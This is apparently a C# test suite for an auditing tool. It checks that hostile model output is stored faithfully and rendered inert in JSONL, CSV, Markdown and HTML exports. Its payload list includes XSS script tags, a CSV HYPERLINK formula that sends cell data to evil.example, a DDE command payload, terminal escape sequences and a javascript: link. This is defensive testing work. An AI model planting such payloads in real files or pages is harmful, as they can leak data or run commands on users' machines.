using System.Text.Json;
using AuditKit.Core.Attempts;
using AuditKit.Core.Backends;
using AuditKit.Core.Runs;
using AuditKit.Store;
using AuditKit.TestSupport;

namespace AuditKit.Cli.Tests;

/// <summary>Model output is untrusted: it is stored as it came and is inert in every output the tool writes.</summary>
public class HostileOutputTests
{
    private static readonly string[] Payloads =
    [
        "<script>window.__pwned=1</script><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example/\"&A1)",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\u001b[2J\u001b[31mterminal takeover\u001b]0;title\u0007",
        "| injected | table |\n# heading\n[link](javascript:alert(1))",
        "nul\u0000bell\u0007 lone \ud800 surrogate",
        new string('长', 1_000_000),
    ];

    private static string MakeRun(TempDirectory dir)
    {
        var runDir = dir.File("hostile");
        using var store = RunStore.Open(runDir, create: true);
        store.InitializeOrVerify(new RunManifest
        {
            RunId = "hostile", Model = new ModelDescription { Name = "m<script>", Backend = "test", Sha256 = "x" }, Sampler = SamplerSettings.Default,
            Suites = [], Languages = ["en"], Samples = 1, ToolVersion = "t",
        });
        for (int i = 0; i < Payloads.Length; i++)
            store.SaveAttempt(new Attempt
            {
                Key = new AttemptKey("m<script>", $"p{i}", "en", 0), Topic = "t", Kind = "critique", Prompt = "q",
                RawOutput = Payloads[i], Response = Payloads[i], Reasoning = Payloads[i], FinishReason = FinishReason.Stop,
            });
        return runDir;
    }

    [Fact]
    public async Task Store_HostileAnswers_RoundTripExactlyExceptLoneSurrogates()
    {
        using var dir = new TempDirectory();
        using var store = RunStore.Open(MakeRun(dir), create: false);
        var stored = store.ReadAttempts().Select(a => a.Response).ToList();
        for (int i = 0; i < Payloads.Length; i++)
            // UTF-8 cannot hold a lone surrogate: SQLite stores U+FFFD in its place, and nothing else changes.
            Assert.Equal(Payloads[i].Replace("\ud800", "\ufffd"), stored[i]);
        await Task.CompletedTask;
    }

    [Fact]
    public async Task ExportAndReport_HostileAnswers_AreInertInJsonlCsvMarkdownAndHtml()
    {
        using var dir = new TempDirectory();
        var run = MakeRun(dir);

        var (exit, _, stderr) = await CliProcess.RunAsync(dir.Path, "export", "--run", run, "--output", dir.File("a.jsonl"));
        Assert.True(exit == 0, stderr);
        var lines = File.ReadAllLines(dir.File("a.jsonl"));
        Assert.Equal(Payloads.Length, lines.Length);
        Assert.DoesNotContain(lines, l => l.Contains('\u001b') || l.Contains('\u0000'));
        Assert.Equal(Payloads[4], JsonDocument.Parse(lines[4]).RootElement.GetProperty("response").GetString());

        Assert.Equal(0, (await CliProcess.RunAsync(dir.Path, "export", "--run", run, "--format", "csv", "--output", dir.File("a.csv"))).ExitCode);
        var csv = File.ReadAllText(dir.File("a.csv"));
        Assert.DoesNotContain(",=HYPERLINK", csv);
        Assert.DoesNotContain(",+cmd", csv);
        Assert.DoesNotContain(",@SUM", csv);

        var (reportExit, _, reportErr) = await CliProcess.RunAsync(dir.Path, "report", "--run", run, "--out", dir.File("rep"));
        Assert.True(reportExit == 0, reportErr);
        var html = File.ReadAllText(dir.File("rep/report.html"));
        Assert.DoesNotContain("<script>window", html);
        Assert.DoesNotContain("<img src=x", html);
        Assert.DoesNotContain("m<script>", html);
        var md = File.ReadAllText(dir.File("rep/report.md"));
        Assert.DoesNotContain("<script>", md);
    }
}
